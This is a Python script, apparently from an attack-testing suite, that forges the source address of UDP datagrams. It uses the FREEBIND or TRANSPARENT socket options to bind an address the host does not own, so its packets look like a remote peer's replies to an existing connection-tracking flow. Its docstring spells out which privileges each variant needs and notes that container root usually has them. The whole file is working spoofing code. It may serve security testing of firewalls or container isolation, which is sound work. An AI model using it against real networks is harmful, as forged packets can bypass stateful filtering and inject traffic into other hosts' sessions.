#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Technique: forge the source of a UDP datagram without any capability:
IP_FREEBIND / IPV6_FREEBIND lets a socket bind an address the host does not
own (a remote peer's), so the datagram looks like that peer's reply to an
existing conntrack flow.  (IPv6 sends from it; IPv4 refuses with
ENETUNREACH unless the socket is transparent.  Ports below
ip_unprivileged_port_start need CAP_NET_BIND_SERVICE.)

--transparent uses IP_TRANSPARENT / IPV6_TRANSPARENT instead, which needs
CAP_NET_RAW or CAP_NET_ADMIN: root in a container has it (Docker keeps
CAP_NET_RAW by default) and can send from any source that way, IPv4 too.
--mapped sends IPv4 through an AF_INET6 socket with v4-mapped addresses.

  forge-source.py [--transparent] [--mapped] --src ADDR --sport PORT ADDR PORT
                  [--token T] [--count N]
If the bind fails the result line is:  bind-error=ERRNO-NAME
"""
import errno
import socket
import sys

import hgattack

IP_FREEBIND = getattr(socket, "IP_FREEBIND", 15)
IPV6_FREEBIND = 78
IP_TRANSPARENT = 19
IPV6_TRANSPARENT = 75


def main():
    p = hgattack.base_parser(__doc__)
    p.add_argument("--src", required=True)
    p.add_argument("--sport", type=int, required=True)
    p.add_argument("--transparent", action="store_true")
    p.add_argument("--mapped", action="store_true")
    a = p.parse_args()
    src, addr = a.src, a.addr
    if a.mapped:
        src, addr = "::ffff:" + src, "::ffff:" + addr
    s = hgattack.udp_socket(addr)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    v6 = hgattack.family_of(addr) == socket.AF_INET6
    if a.transparent:
        if v6:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
        if not v6 or a.mapped:
            s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    else:
        if v6:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        if not v6 or a.mapped:
            s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    try:
        s.bind(hgattack.sockaddr(src, a.sport))
    except OSError as e:
        print("bind-error=%s" % errno.errorcode.get(e.errno, e.errno))
        return 3
    dst = hgattack.sockaddr(addr, a.port)
    t = hgattack.Tally()
    t.run(lambda: s.sendto(a.token.encode(), dst), a.count, a.interval)
    return t.report()


if __name__ == "__main__":
    sys.exit(main())
